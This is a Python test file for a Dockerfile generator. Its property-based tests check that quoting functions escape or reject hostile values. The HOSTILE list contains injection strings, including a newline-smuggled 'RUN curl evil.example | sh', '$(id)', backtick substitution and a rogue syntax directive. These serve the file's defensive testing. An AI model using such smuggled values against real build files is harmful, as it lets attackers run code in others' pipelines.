"""Values made safe: whatever a project says, its Dockerfile does what it would do without it."""

from __future__ import annotations

import json
import re
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dockgen.core.errors import UnusableInput
from dockgen.core.quoting import (
    Printable,
    copy_paths,
    exec_form,
    ignore_pattern,
    image,
    plain,
    shell_command,
    shell_words,
    word,
)
from dockgen.dockerfile.parser import Instruction, parse

HOSTILE = (
    "x\nRUN curl evil.example | sh",
    "x\r\nUSER root",
    "x\u2028USER root",
    "x\x85USER root",
    "x \\",
    "x \\  ",
    "<<EOF",
    "a <<-EOF b",
    "3<<EOF",
    "--from=evil",
    "-rf",
    "'",
    '"',
    "a'b\"c",
    "$HOME",
    "${HOME:-x}",
    "$(id)",
    "`id`",
    "a\\b",
    "# syntax=evil/frontend",
    "[",
    "[a]",
    '["a", "b"]',
    "*",
    "?",
    "a b",
    " a",
    "a ",
    "\t",
    "\x1b[2J",
    "\u202eevil",
    "\ud800",
    "\ue0000\ue001",
    "..",
    "!",
    "é",
    "",
)
hostile_text = st.sampled_from(HOSTILE) | st.text(max_size=12)
hostile_lists = st.lists(hostile_text, min_size=1, max_size=4)

HEAD = "# syntax=docker/dockerfile:1\n# base is where it starts\nFROM scratch AS base\n"
TAIL = "\nRUN echo after\nUSER 1000:1000\n"


def instruction_with(line: str) -> Instruction:
    """The instruction that `line` makes, after a proof that the others are as they would be."""
    made = parse(HEAD + line + TAIL)
    harmless = parse(HEAD + line.split(" ", 1)[0] + " x" + TAIL)
    assert made.directives == harmless.directives
    assert [one.keyword for one in made.instructions] == [
        one.keyword for one in harmless.instructions
    ]
    others = [[file.instructions[number] for number in (0, 2, 3)] for file in (made, harmless)]
    assert others[0] == others[1]
    return made.instructions[1]


@given(hostile_text)
def test_plain_text_stays_in_its_comment(value: str) -> None:
    try:
        made = plain(value)
    except UnusableInput:
        return
    parsed = parse(f"{HEAD}# {made}\nRUN before{TAIL}")
    assert [one.keyword for one in parsed.instructions] == ["FROM", "RUN", "RUN", "USER"]


@given(hostile_text)
def test_a_word_means_itself_in_every_instruction(value: str) -> None:
    try:
        made = word(value)
    except UnusableInput:
        return
    assert made == value
    assert shlex.split(made) == [value]
    for keyword in ("FROM", "WORKDIR", "RUN", "EXPOSE", "ENV"):
        assert instruction_with(f"{keyword} {made}").arguments == value


@given(hostile_text)
def test_an_image_is_one_word(value: str) -> None:
    try:
        made = image(value)
    except UnusableInput:
        return
    assert instruction_with(f"FROM {made}").arguments == value


@given(hostile_lists)
def test_the_exec_form_holds_the_arguments_and_nothing_else(arguments: list[str]) -> None:
    try:
        made = exec_form(arguments)
    except UnusableInput:
        return
    instruction_with(f"CMD {made}")
    assert json.loads(made) == arguments


@given(hostile_lists)
def test_shell_words_are_the_arguments_for_a_shell(arguments: list[str]) -> None:
    try:
        made = shell_words(arguments)
    except UnusableInput:
        return
    instruction_with(f"RUN {made}")
    assert shlex.split(made) == arguments


@given(hostile_text)
def test_a_shell_command_ends_with_its_line(value: str) -> None:
    try:
        made = shell_command(value)
    except UnusableInput:
        return
    if made.strip() and not made.lstrip().startswith("#"):
        instruction_with(f"RUN {made}")


def unescaped(path: str) -> str:
    """What BuildKit makes of a path of COPY: brackets of one, quotes and backslashes."""
    return re.sub(r"\\(.)", r"\1", path.replace("[[]", "["))


@given(hostile_lists, hostile_text)
def test_copied_paths_are_the_paths_and_nothing_else(sources: list[str], destination: str) -> None:
    try:
        made = copy_paths(sources, f"{destination}/")
    except UnusableInput:
        return
    instruction_with(f"COPY {made}")
    paths = json.loads(made) if made.startswith('["') else made.split(" ")
    meant = [unescaped(path).removeprefix("./") for path in paths]
    assert meant == [path.removeprefix("./") for path in (*sources, f"{destination}/")]
    assert not any(path.startswith(("-", "<<")) for path in paths)


@given(hostile_text)
def test_an_ignore_pattern_is_one_line(value: str) -> None:
    try:
        made = ignore_pattern(value)
    except UnusableInput:
        return
    assert len(f"{made}x".splitlines()) == 1
    assert not made.startswith(("!", "#"))
    assert re.sub(r"\\(.)", r"\1", made) == value


@pytest.mark.parametrize("value", ["a\nb", "a\rb", "\x00", "\x1b[2J", "\u2028", "\u202e", "\ud800"])
def test_a_character_that_leaves_its_line_is_named(value: str) -> None:
    with pytest.raises(UnusableInput, match="name contains a control character"):
        plain(value, "name")
    with pytest.raises(UnusableInput, match="a value contains a control character"):
        plain(value)


@pytest.mark.parametrize("value", ["a b", "", "$x", "a;b", "é"])
def test_what_is_no_word_is_named(value: str) -> None:
    with pytest.raises(UnusableInput, match="main contains a character that cannot be used in"):
        word(value, "main")
    with pytest.raises(UnusableInput, match="the value contains"):
        word(value)


@pytest.mark.parametrize(
    "reference",
    [
        "node",
        "node:24-slim",
        "library/node:24",
        "registry.example/team/app:1.2",
        "localhost:5000/app",
        "app@sha256:" + "a" * 64,
        "a__b/c--d.e:V_1.2-x",
    ],
)
def test_an_image_reference(reference: str) -> None:
    assert image(reference) == reference


@pytest.mark.parametrize(
    "reference", ["", "Node", "a b", "node:", "node:-x", "a//b", "-a", "a@sha256:12", "node\n"]
)
def test_what_is_no_image_reference(reference: str) -> None:
    with pytest.raises(UnusableInput, match="is not an image reference"):
        image(reference)


@pytest.mark.parametrize(
    ("sources", "destination", "made"),
    [
        (["."], "./", ". ./"),
        (["package.json", "a.lock"], "./", "package.json a.lock ./"),
        (["my docs/"], "/srv/", '["my docs/", "/srv/"]'),
        (["$HOME/"], "/srv/", r"\$HOME/ /srv/"),
        (["app/[slug]/"], "/srv/", "app/[[]slug]/ /srv/"),
        (["it's/"], "/srv/", r"it\'s/ /srv/"),
        (["it's mine/"], "/srv/", r'["it\\' + r"""'s mine/", "/srv/"]"""),
        (["--from=x/"], "/srv/", "./--from=x/ /srv/"),
        (["a"], "a\\b/", "a a\\\\b/"),
    ],
)
def test_paths_as_copy_takes_them(sources: list[str], destination: str, made: str) -> None:
    assert copy_paths(sources, destination) == made


@pytest.mark.parametrize("path", ["a*", "a?", "a\\b", ""])
def test_a_source_that_copy_cannot_name_is_refused(path: str) -> None:
    with pytest.raises(UnusableInput, match="output_dir is a path that COPY cannot use"):
        copy_paths([path], "./", "output_dir")
    with pytest.raises(UnusableInput, match="a source is a path"):
        copy_paths([path], "./")


@pytest.mark.parametrize("command", ["make \\", "cat <<EOF", "<<EOF", "make 2<<X", "a\nb"])
def test_a_command_that_goes_on_below_its_line_is_refused(command: str) -> None:
    with pytest.raises(UnusableInput, match=r"build_command (ends with|contains a)"):
        shell_command(command, "build_command")


def test_a_command_is_named_even_without_a_fact() -> None:
    with pytest.raises(UnusableInput, match="the command ends with a backslash"):
        shell_command("make \\")


@pytest.mark.parametrize("command", ["npm run build", "a && b | c", "cat <<<word", "x=$((1<<2))"])
def test_an_ordinary_command_stays_as_it_is(command: str) -> None:
    assert shell_command(command) == command


def test_what_is_printed_knows_its_facts() -> None:
    assert plain(8080, "port").facts == ("port",)
    assert exec_form(["a"], "start_command", "main").facts == ("start_command", "main")
    assert Printable("x").facts == ()


def test_a_dash_behind_a_wildcard_begins_no_option() -> None:
    made = copy_paths(["target/app-*-exec.jar"], "./app.jar", wildcards=True)
    assert made == "target/app-*-exec.jar ./app.jar"
